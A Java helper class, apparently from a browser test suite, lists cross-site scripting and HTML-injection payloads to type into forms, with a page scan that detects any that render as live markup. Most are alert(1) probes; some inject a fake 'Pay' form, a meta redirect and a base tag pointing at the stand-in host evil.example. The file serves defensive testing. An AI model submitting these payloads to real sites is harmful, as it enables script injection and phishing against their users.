package io.ordergate.browser;

import java.util.List;

/** What strangers type into forms so that it runs when somebody else looks at it. */
final class Strangers {

    static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg/onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
            "</td></table></main><form action=//evil.example><button>Pay</button></form>",
            "</style><style>*{display:none}</style>",
            "<a href='javascript:alert(1)'>x</a>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example>",
            "<!--",
            "${alert(1)} {{constructor.constructor('alert(1)')()}}",
            "javascript:alert(1)");

    /** Elements and attributes that pages of ours do not have. */
    private static final String TRACES = """
            return [...document.querySelectorAll('*')].filter(each =>
                ['IFRAME', 'BASE', 'OBJECT', 'EMBED'].includes(each.tagName)
                || each.matches('meta[http-equiv], script:not([src]), img[src=x], details[ontoggle], [action*=evil]')
                || [...each.attributes].some(attribute => attribute.name.startsWith('on')
                    || /^\\s*javascript:/i.test(attribute.value) && ['href', 'src', 'action', 'formaction'].includes(attribute.name)))
                .map(each => each.outerHTML.slice(0, 200));""";

    private Strangers() {}

    /** What of it has become a part of the page instead of text. */
    @SuppressWarnings("unchecked")
    static List<String> traces(Browser browser) {
        return (List<String>) browser.script(TRACES);
    }
}
